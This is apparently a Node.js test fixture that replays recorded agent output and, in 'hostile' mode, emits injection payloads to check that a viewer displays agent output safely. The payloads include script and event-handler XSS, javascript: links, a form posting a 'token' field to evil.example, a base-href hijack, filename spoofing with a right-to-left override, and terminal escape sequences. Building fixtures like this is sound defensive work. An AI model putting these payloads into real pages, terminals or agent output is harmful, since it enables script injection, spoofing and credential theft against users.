// An agent of the tests: `node recorded-agent.mjs <recording> [ms]` prints a recording of an agent's output, with a pause
// before each line. `hostile` in place of a recording prints output that tries to be more than text.
import { readFileSync } from 'node:fs';
import { setTimeout as delay } from 'node:timers/promises';

const [recording = '', ms = '0'] = process.argv.slice(2);

const ESC = '\u001b';

const HOSTILE = [
  '<script>window.__ran = 1</script><img src=x onerror="window.__ran = 2"><svg onload="window.__ran = 3">',
  '[a link](javascript:window.__ran=4) <a href="javascript:window.__ran=5">another</a> ![x](http://tracker.example/x.png)',
  'invoice\u202Egnp.exe and \u2066hidden\u2069 and zero\u200Bwidth',
  `${ESC}[31mred${ESC}[0m ${ESC}]0;title${'\u0007'} ${ESC}]8;;http://evil.example${ESC}\\link${ESC}]8;;${ESC}\\ ${ESC}[2J${ESC}[8mhidden${ESC}[0m`,
  '<iframe srcdoc="<script>parent.__ran = 6</script>"></iframe><style>body{display:none}</style><base href="http://evil.example/">',
  `</pre></code></div><form action="http://evil.example"><input name="token"></form>`,
  'x'.repeat(200_000),
];

function hostileLines() {
  const message = (content) =>
    JSON.stringify({ type: 'assistant', message: { role: 'assistant', model: 'model-1', content } });
  return [
    ...HOSTILE.map((text) => message([{ type: 'text', text }])),
    message([{ type: 'tool_use', id: 'call-1', name: 'Bash<script>', input: { command: HOSTILE[0] } }]),
    JSON.stringify({
      type: 'user',
      message: {
        role: 'user',
        content: [{ type: 'tool_result', tool_use_id: 'call-1', content: HOSTILE.join('\n') }],
      },
    }),
    JSON.stringify({
      type: 'result',
      subtype: 'success',
      is_error: false,
      result: HOSTILE[0],
      total_cost_usd: 0.01,
    }),
  ];
}

const lines =
  recording === 'hostile' ? hostileLines() : readFileSync(recording, 'utf8').trimEnd().split('\n');
for (const line of lines) {
  if (Number(ms) > 0) await delay(Number(ms));
  process.stdout.write(`${line}\n`);
}
